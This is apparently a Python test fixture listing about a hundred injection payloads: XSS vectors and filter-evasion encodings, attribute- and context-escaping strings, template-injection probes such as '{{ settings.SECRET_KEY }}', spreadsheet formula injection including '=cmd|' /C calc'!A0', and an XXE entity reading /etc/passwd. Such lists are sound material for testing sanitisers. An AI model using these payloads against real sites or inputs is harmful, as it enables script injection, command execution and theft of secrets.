"""A hundred pieces of text that would run as a script, a style or a formula if they were trusted."""

RUN = "alert(1)"
WRAPPED = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//elsewhere.example/x.js></script>",
    f"<script type=module>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img/src/onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<math><mtext></mtext><img src onerror={RUN}>",
    f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<a href=javascript:{RUN}>go</a>",
    f"<a href='jAvAsCrIpT&colon;{RUN}'>go</a>", f"<form action=javascript:{RUN}><input type=submit>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>", "<style>@import '//elsewhere.example/x.css'</style>",
    "<style>*{background:url(//elsewhere.example/x)}</style>", "<link rel=stylesheet href=//elsewhere.example/x>",
    "<base href=//elsewhere.example/>", "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src onerror={RUN}>'>", f"<!--><img src onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<x onclick={RUN} tabindex=1 id=x>x</x>", f"<button onclick={RUN} popovertarget=x>x</button>",
]  # fmt: skip
ESCAPING = [
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" autofocus onfocus={RUN} x=\"",
    f"' autofocus onfocus={RUN} x='", f"` onmouseover={RUN} `", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</option></select><img src onerror={RUN}>", f"</a><svg onload={RUN}>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"\\\"-{RUN}//", f"';{RUN}//", f"${{{RUN}}}", f"</script ><img src onerror={RUN}>",
    f"\"}}}});{RUN}//", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<\u200bscript>{RUN}</script>", f"\u202e<script>{RUN}</script>",
]  # fmt: skip
MEANING = [
    "{{ 7|add:7 }}", "{% debug %}", "{% include 'base.html' %}", "{{ settings.SECRET_KEY }}", "{# x #}", "{{7*7}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s", "%s%s%s%n", "{0.__class__}", "{x!r}", "__import__('os')",
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//elsewhere.example\")", "=cmd|' /C calc'!A0", "\t=1+1",
    "\"=1+1\"", ",=1+1", ";=1+1", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "//elsewhere.example", "url(//elsewhere.example)", "expression(alert(1))", "</svg>", "<!DOCTYPE x>",
    "<?php x ?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
]  # fmt: skip
PAYLOADS = [*WRAPPED, *ESCAPING, *MEANING]
